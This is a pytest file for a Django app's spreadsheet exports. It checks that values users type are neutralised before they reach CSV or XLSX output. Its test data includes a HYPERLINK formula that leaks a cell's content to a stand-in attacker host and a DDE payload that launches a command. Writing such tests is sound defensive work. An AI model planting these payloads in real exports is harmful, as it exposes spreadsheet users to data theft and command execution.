"""Exports never hand a spreadsheet a formula typed by a user."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from core.tables import neutralise_formula, safe_dataset
from tests.factories.staffing import AllocationFactory

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("Kokkola", "Kokkola"),
        ("–", "–"),
        (Decimal("-0.5"), Decimal("-0.5")),
        (None, None),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected


def test_safe_dataset_keeps_numbers_and_shape():
    import tablib

    data = tablib.Dataset(title="t")
    data.headers = ["Rooli", "HTV"]
    data.append(["=2*3", Decimal("1.5")])
    safe = safe_dataset(data)
    assert safe.headers == ["Rooli", "HTV"]
    assert list(safe) == [("'=2*3", Decimal("1.5"))]


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "csv-rfc4180", "xlsx"])
def test_line_item_export_keeps_a_typed_formula_as_text(client, admin_user, export_format):
    line = AllocationFactory(role_title=ATTACK, note="+cmd|' /C calc'!A0")
    client.force_login(admin_user)
    url = reverse("staffing:allocation-list", kwargs={"pilot": line.plan.pilot.slug})
    response = client.get(url, {"_export": export_format})
    assert response.status_code == 200
    if export_format.startswith("csv"):
        delimiter = ";" if export_format == "csv" else ","
        text = io.StringIO(response.content.decode("utf-8-sig"))
        cells = [cell for row in csv.reader(text, delimiter=delimiter) for cell in row]
        assert "'" + ATTACK in cells
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        values = [cell for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in values)
        assert "'" + ATTACK in [cell.value for cell in values]
        assert Decimal(str(line.fte)) in [
            Decimal(str(cell.value)) for cell in values if cell.data_type == "n" and cell.value
        ]
